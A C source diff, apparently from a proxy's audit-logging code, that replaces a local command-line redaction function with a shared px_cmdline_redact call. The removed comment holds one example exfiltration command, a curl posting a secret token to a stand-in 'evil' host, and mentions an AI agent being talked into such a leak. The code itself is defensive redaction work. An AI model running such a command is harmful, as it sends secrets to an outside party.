@@ -40,48 +40,6 @@ typedef struct {
     char cmd[4096];
 } evbufs_t;
 
-/* A command line as the audit trail keeps it: the program, its flags, and
- * the scheme://host[:port] of URL arguments; every other value becomes
- * <redacted>. An agent talked into `curl -d "token=$SECRET" https://evil/`
- * must not copy the secret into the logs it is judged by. */
-static void redact_cmdline(const char *in, char *out, size_t n)
-{
-    size_t o = 0;
-    bool first = true;
-    out[0] = '\0';
-    for (const char *p = in; *p && o + 1 < n;) {
-        while (*p == ' ')
-            p++;
-        size_t len = strcspn(p, " ");
-        if (!len)
-            break;
-        const char *keep = p;
-        size_t klen = len;
-        const char *scheme = strstr(p, "://");
-        const char *eq = memchr(p, '=', len);
-        if (first) {
-            ;
-        } else if (scheme && scheme < p + len) {
-            const char *host = scheme + 3;
-            klen = (size_t)(host - p) + strcspn(host, "/?# ");
-            if (klen > len)
-                klen = len;
-        } else if (p[0] == '-') {
-            klen = eq ? (size_t)(eq - p) + 1 : len;
-        } else {
-            keep = "<redacted>";
-            klen = 10;
-        }
-        int w = snprintf(out + o, n - o, "%s%.*s%s", o ? " " : "", (int)klen, keep,
-                         p[0] == '-' && eq && !first ? "<redacted>" : "");
-        if (w < 0 || (size_t)w >= n - o)
-            break;
-        o += (size_t)w;
-        first = false;
-        p += len;
-    }
-}
-
 /* The parts every event of this connection has. */
 static void base(px_conn_t *c, ocsf_event_t *ev, int cls, int act, int sev, evbufs_t *b)
 {
@@ -100,7 +58,7 @@ static void base(px_conn_t *c, ocsf_event_t *ev, int cls, int act, int sev, evbu
     if (c->ident && c->ident_rc == 0) {
         ev->actor.pid = c->ident->pid;
         ev->actor.name = ocsf_str(c->ident->exe); /* the exe path, as OpenShell shows it */
-        redact_cmdline(c->ident->cmdline, b->cmd, sizeof b->cmd);
+        px_cmdline_redact(c->ident->cmdline, b->cmd, sizeof b->cmd);
         ev->actor.cmd_line = ocsf_str(b->cmd);
         ocsf_process_set_file(&ev->actor, ocsf_str(c->ident->exe),
                               c->ident->sha256[0] ? ocsf_str(c->ident->sha256) : OCSF_NOSTR);
